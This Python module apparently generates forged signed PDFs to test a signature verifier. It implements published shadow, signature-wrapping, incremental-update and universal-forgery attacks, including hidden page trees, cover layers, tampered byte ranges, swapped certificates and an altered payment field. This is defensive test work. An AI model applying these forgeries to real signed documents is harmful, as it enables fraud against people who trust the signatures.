"""Attacks on signed PDFs as the literature has them, made from a signed file: what a forger adds, hides or moves.

Shadow attacks: Mainka et al., NDSS 2021 · signature wrapping, incremental saving, universal forgery: Mladenov et al.,
CCS 2019 · evil annotations and signatures: Rohlmann et al., S&P 2021.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from typing import Any

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

from signing.placing import Writer

__all__ = [
    "FORGERIES",
    "UPDATES",
    "appended",
    "edges",
    "plain",
    "prepared_to_hide",
    "prepared_to_replace",
    "regions",
    "swapped_certificate",
    "with_form",
    "wrapped",
]

Change = Callable[[IncrementalPdfFileWriter], None]


def edges(pdf: bytes, number: int = 0) -> tuple[int, int, int]:
    """Where the value of a signature begins, where it ends and where what it signed ends."""
    one = PdfFileReader(io.BytesIO(pdf), strict=False).embedded_signatures[number]
    _, gap, after, length = (int(edge) for edge in one.sig_object["/ByteRange"])
    return gap, after, after + length


def regions(pdf: bytes) -> dict[str, int]:
    """An offset in each region of a file with a signature, a security store and a time-stamp over both."""
    gap, after, end = edges(pdf)
    stamp_gap, stamp_after, _ = edges(pdf, 1)
    return {
        "header": 5,
        "page": pdf.index(b"stream") + 40,
        "before the value": gap - 40,
        "padding of the value": after - 5,
        "byte range": pdf.index(b"/ByteRange", after) + 13,
        "cross-references": pdf.rindex(b"\nxref", 0, end) + 20,
        "trailer": pdf.rindex(b"/Root", 0, end) + 6,
        "start of the cross-references": pdf.rindex(b"startxref", 0, end) + 10,
        "security store": pdf.rindex(b"endstream", 0, stamp_gap) - 50,
        "time-stamp": stamp_gap + 600,
        "padding of the time-stamp": stamp_after - 5,
        "byte range of the time-stamp": pdf.index(b"/ByteRange", stamp_after) + 13,
        "trailer of the time-stamp": pdf.rindex(b"/ID", stamp_after) + 8,
        "last start of cross-references": pdf.rindex(b"startxref") + 10,
    }


def appended(pdf: bytes, change: Change) -> bytes:
    """The file with an incremental update of an attacker's."""
    out = io.BytesIO(pdf)
    writer = Writer(out)
    change(writer)
    writer.write_in_place()  # type: ignore[no-untyped-call]
    return out.getvalue()


def _page(writer: IncrementalPdfFileWriter) -> Any:
    return writer.root["/Pages"]["/Kids"][0]


def _dictionary(**entries: Any) -> generic.DictionaryObject:
    return generic.DictionaryObject({pdf_name(f"/{key}"): value for key, value in entries.items()})  # type: ignore[no-untyped-call]


def _box(*edges: int) -> generic.ArrayObject:
    return generic.ArrayObject([generic.NumberObject(edge) for edge in edges])  # type: ignore[no-untyped-call]


def _drawing(writer: IncrementalPdfFileWriter, content: bytes) -> Any:
    made = generic.StreamObject(
        _dictionary(Type=pdf_name("/XObject"), Subtype=pdf_name("/Form"), BBox=_box(0, 0, 600, 850)),
        stream_data=content,
    )
    return writer.add_object(made)


BLOT = b"1 g 0 0 600 850 re f"


def new_contents(writer: IncrementalPdfFileWriter) -> None:
    page = _page(writer)
    page[pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=BLOT))
    writer.update_container(page)


def contents_redefined(writer: IncrementalPdfFileWriter) -> None:
    """The same object number with other bytes: the page's own dictionary stays as it was."""
    held = _page(writer).raw_get("/Contents")
    while not isinstance(held, generic.IndirectObject):
        held = held[0]
    stream = held.get_object()
    stream._data = BLOT
    stream._encoded_data = None
    stream.pop("/Filter", None)
    writer.mark_update(held)


def font_redefined(writer: IncrementalPdfFileWriter) -> None:
    """Shadow attack "replace": other widths, and the letters change places."""
    font = next(iter(_page(writer)["/Resources"]["/Font"].values())).get_object()
    font[pdf_name("/BaseFont")] = pdf_name("/Courier")
    writer.update_container(font)


def another_page(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    blank = _dictionary(
        Type=pdf_name("/Page"),
        Parent=writer.root.raw_get("/Pages"),
        MediaBox=_box(0, 0, 595, 842),
        Resources=_dictionary(),
    )
    pages["/Kids"].append(writer.add_object(blank))
    pages[pdf_name("/Count")] = generic.NumberObject(2)  # type: ignore[no-untyped-call]
    writer.update_container(pages)


def other_page_tree(writer: IncrementalPdfFileWriter) -> None:
    """Shadow attack "hide and replace": the catalogue points to pages that lay in the file all the while."""
    pages = _dictionary(
        Type=pdf_name("/Pages"),
        Count=generic.NumberObject(1),  # type: ignore[no-untyped-call]
    )
    tree = writer.add_object(pages)
    blank = _dictionary(Type=pdf_name("/Page"), Parent=tree, MediaBox=_box(0, 0, 595, 842), Resources=_dictionary())
    pages[pdf_name("/Kids")] = generic.ArrayObject([writer.add_object(blank)])
    writer.root[pdf_name("/Pages")] = tree
    writer.update_root()  # type: ignore[no-untyped-call]


def _note(writer: IncrementalPdfFileWriter, kind: str) -> None:
    page = _page(writer)
    note = _dictionary(
        Type=pdf_name("/Annot"),
        Subtype=pdf_name(f"/{kind}"),
        Rect=_box(0, 0, 600, 850),
        F=generic.NumberObject(4),  # type: ignore[no-untyped-call]
        AP=_dictionary(N=_drawing(writer, BLOT)),
    )
    if "/Annots" not in page:
        page[pdf_name("/Annots")] = generic.ArrayObject()
    page["/Annots"].append(writer.add_object(note))
    writer.update_container(page["/Annots"])


def free_text(writer: IncrementalPdfFileWriter) -> None:
    _note(writer, "FreeText")


def stamp_annotation(writer: IncrementalPdfFileWriter) -> None:
    _note(writer, "Stamp")


def redaction(writer: IncrementalPdfFileWriter) -> None:
    _note(writer, "Redact")


def own_mark_redrawn(writer: IncrementalPdfFileWriter) -> None:
    """Another name in the visible mark of the signature itself."""
    field = next(one for one in writer.root["/AcroForm"]["/Fields"] if "/AP" in one.get_object()).get_object()
    field["/AP"][pdf_name("/N")] = _drawing(writer, BLOT)
    writer.update_container(field)


def own_mark_moved(writer: IncrementalPdfFileWriter) -> None:
    field = next(one for one in writer.root["/AcroForm"]["/Fields"] if "/AP" in one.get_object()).get_object()
    field[pdf_name("/Rect")] = _box(0, 0, 600, 850)
    writer.update_container(field)


def script(writer: IncrementalPdfFileWriter) -> None:
    action = _dictionary(S=pdf_name("/JavaScript"), JS=generic.TextStringObject("app.alert(1)"))
    writer.root[pdf_name("/OpenAction")] = action
    writer.update_root()  # type: ignore[no-untyped-call]


def attachment(writer: IncrementalPdfFileWriter) -> None:
    names = _dictionary(Names=generic.ArrayObject([generic.TextStringObject("a"), _dictionary()]))
    writer.root[pdf_name("/Names")] = _dictionary(EmbeddedFiles=names)
    writer.update_root()  # type: ignore[no-untyped-call]


def layers(writer: IncrementalPdfFileWriter) -> None:
    """Optional content that shows and hides."""
    writer.root[pdf_name("/OCProperties")] = _dictionary(OCGs=generic.ArrayObject(), D=_dictionary())
    writer.update_root()  # type: ignore[no-untyped-call]


def forms_drawn_anew(writer: IncrementalPdfFileWriter) -> None:
    """Viewers are told to draw all fields themselves."""
    form = writer.root["/AcroForm"]
    form[pdf_name("/NeedAppearances")] = generic.BooleanObject(True)
    form[pdf_name("/XFA")] = generic.TextStringObject("<xdp/>")
    writer.update_container(form)


def second_name(writer: IncrementalPdfFileWriter) -> None:
    """Two fields of one name, one of them the signature's."""
    fields = writer.root["/AcroForm"]["/Fields"]
    first = next(one for one in fields if "/V" in one.get_object()).get_object()
    twin = generic.DictionaryObject(dict(first))  # type: ignore[no-untyped-call]
    fields.append(writer.add_object(twin))
    writer.update_container(fields)


def field_renamed(writer: IncrementalPdfFileWriter) -> None:
    first = next(one for one in writer.root["/AcroForm"]["/Fields"] if "/V" in one.get_object()).get_object()
    first[pdf_name("/T")] = generic.TextStringObject("Khac")
    writer.update_container(first)


UPDATES: dict[str, Change] = {
    "new contents of a page": new_contents,
    "contents redefined": contents_redefined,
    "font redefined": font_redefined,
    "another page": another_page,
    "other page tree": other_page_tree,
    "free text over the page": free_text,
    "stamp over the page": stamp_annotation,
    "redaction": redaction,
    "its own mark redrawn": own_mark_redrawn,
    "its own mark moved": own_mark_moved,
    "a script": script,
    "an attachment": attachment,
    "layers": layers,
    "forms drawn anew": forms_drawn_anew,
    "two fields of one name": second_name,
    "field renamed": field_renamed,
}
"""Incremental updates that no signature of ours permits."""


def plain(pdf: bytes) -> bytes:
    """The file with a cross-reference table and nothing in object streams: forgers edit it by hand."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as document:
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, qdf=False)
    return out.getvalue()


def _value(pdf: bytes, made: Callable[[bytes], bytes]) -> bytes:
    gap, after, _ = edges(pdf)
    return pdf[:gap] + made(pdf[gap:after]) + pdf[after:]


def _ranged(pdf: bytes, made: str) -> bytes:
    _, after, _ = edges(pdf)
    found = re.compile(rb"/ByteRange\s*\[[^\]]*\]").search(pdf, after)
    assert found is not None
    return (
        pdf[: found.start()]
        + made.encode().ljust(found.end() - found.start())[: found.end() - found.start()]
        + pdf[found.end() :]
    )


def _same(pdf: bytes, word: bytes) -> bytes:
    """A name of the signature's dictionary misspelt, so that it is missing."""
    gap, after, _ = edges(pdf)
    at = pdf.rindex(word, 0, gap) if word == b"/Contents" else pdf.index(word, after)
    return pdf[: at + 1] + b"X" + pdf[at + 2 :]


FORGERIES: dict[str, Callable[[bytes], bytes]] = {
    "no value": lambda pdf: _same(pdf, b"/Contents"),
    "empty value": lambda pdf: _value(pdf, lambda old: b"<>".ljust(len(old))),
    "value of zeros": lambda pdf: _value(pdf, lambda old: b"<" + b"0" * (len(old) - 2) + b">"),
    "value null": lambda pdf: _value(pdf, lambda old: b"null".ljust(len(old))),
    "value a name": lambda pdf: _value(pdf, lambda old: b"/None".ljust(len(old))),
    "value a reference to nothing": lambda pdf: _value(pdf, lambda old: b"9999 0 R".ljust(len(old))),
    "value not CMS": lambda pdf: _value(pdf, lambda old: b"<" + b"3003020101".ljust(len(old) - 2, b"0") + b">"),
    "no byte range": lambda pdf: _same(pdf, b"/ByteRange"),
    "byte range null": lambda pdf: _ranged(pdf, "/ByteRange null"),
    "byte range empty": lambda pdf: _ranged(pdf, "/ByteRange []"),
    "byte range of zeros": lambda pdf: _ranged(pdf, "/ByteRange [0 0 0 0]"),
    "byte range negative": lambda pdf: _ranged(pdf, "/ByteRange [0 -1 1 9]"),
    "byte range beyond the end": lambda pdf: _ranged(pdf, "/ByteRange [0 9 99999999 9]"),
    "byte range of one part": lambda pdf: _ranged(pdf, "/ByteRange [0 100]"),
    "byte range of words": lambda pdf: _ranged(pdf, "/ByteRange [/a /b /c /d]"),
}
"""Universal forgery: the signature is made such that a careless verifier has nothing to check."""


def wrapped(pdf: bytes) -> bytes:
    """Signature wrapping: what was signed is cut in two and moved apart, and the forger's pages stand between, where
    the cross-references are looked for. Needs a signed `plain` file."""
    gap, after, end = edges(pdf)
    first, value, second = pdf[:gap], pdf[gap:after], pdf[after:end]
    start = int(re.findall(rb"startxref\s+(\d+)\s+%%EOF", second)[-1])
    catalogue = int(re.findall(rb"/Root (\d+) 0 R", second)[-1])
    at, moved = start + 1000, start + 1000 + len(value) + 2000
    objects = {
        catalogue: b"<</Type/Catalog/Pages 901 0 R/AcroForm<</SigFlags 3/Fields[903 0 R]>>>>",
        901: b"<</Type/Pages/Count 1/Kids[902 0 R]>>",
        902: b"<</Type/Page/Parent 901 0 R/MediaBox[0 0 595 842]/Annots[903 0 R]>>",
        903: b"<</Type/Annot/Subtype/Widget/FT/Sig/T(S)/Rect[0 0 0 0]/F 4/P 902 0 R/V 904 0 R>>",
        904: b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/Contents %s/ByteRange[0 %d %d %d]>>"
        % (value, gap, moved, len(second)),
    }
    table, body = b"xref\n", b""
    for number, content in sorted(objects.items()):
        table += b"%d 1\n%010d 00000 n \n" % (number, at + len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table += b"trailer\n<</Size 905/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (catalogue, start)
    middle = (value.ljust(start - gap) + table).ljust(at - gap) + body
    return (first + middle).ljust(moved) + second


def swapped_certificate(pdf: bytes, other: bytes) -> bytes:
    """The signer's certificate in the value replaced by another of the same length or shorter, by name and number."""
    from asn1crypto import cms

    gap, after, _ = edges(pdf)
    content = cms.ContentInfo.load(bytes.fromhex(pdf[gap + 1 : after - 1].decode()), strict=False)
    signed = content["content"]
    info = signed["signer_infos"][0]
    number = info["sid"].chosen["serial_number"].native
    made = cms.CertificateSet(
        [cms.CertificateChoices.load(other)]
        + [one for one in signed["certificates"] if one.chosen.serial_number != number]
    )
    signed["certificates"] = made
    der = content.dump(force=True)
    return _value(pdf, lambda old: b"<" + der.hex().encode().ljust(len(old) - 2, b"0") + b">")


def with_form(pdf: bytes) -> bytes:
    """The file with a text field to fill in."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as document:
        field = document.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Widget,
                FT=pikepdf.Name.Tx,
                T="so_tien",
                V="1",
                F=4,
                Rect=[50, 50, 200, 70],
                P=document.pages[0].obj,
            )
        )
        document.pages[0].Annots = pikepdf.Array([field])
        document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
        document.save(out)
    return out.getvalue()


def filled_in(writer: IncrementalPdfFileWriter) -> None:
    field = writer.root["/AcroForm"]["/Fields"][0].get_object()
    field[pdf_name("/V")] = generic.TextStringObject("1000000000")
    writer.update_container(field)


def prepared_to_hide(pdf: bytes) -> bytes:
    """Shadow attack "hide", before it is signed: a picture lies over the true text and can be taken away later."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as document:
        cover = document.make_stream(b"0.9 g 0 0 600 850 re f")
        cover.Type, cover.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
        cover.BBox = [0, 0, 600, 850]
        page = document.pages[0]
        page.add_resource(cover, pikepdf.Name.XObject, pikepdf.Name.Cover)
        page.contents_add(b"q /Cover Do Q")
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def cover_taken_away(writer: IncrementalPdfFileWriter) -> None:
    """The covering form becomes an empty one."""
    resources = _page(writer)["/Resources"]["/XObject"]
    held = resources.raw_get("/Cover")
    empty = held.get_object()
    empty._data, empty._encoded_data = b"", None
    empty.pop("/Filter", None)
    writer.mark_update(held)


def prepared_to_replace(pdf: bytes) -> bytes:
    """Shadow attack "hide and replace", before it is signed: other pages lie in the file and nothing refers to them."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as document:
        hidden = document.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Pages, Count=1))
        page = document.make_indirect(
            pikepdf.Dictionary(Type=pikepdf.Name.Page, Parent=hidden, MediaBox=[0, 0, 595, 842])
        )
        hidden.Kids = pikepdf.Array([page])
        document.Root.Shadow = hidden
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def shadow_comes_forth(writer: IncrementalPdfFileWriter) -> None:
    writer.root[pdf_name("/Pages")] = writer.root.raw_get("/Shadow")
    writer.update_root()  # type: ignore[no-untyped-call]
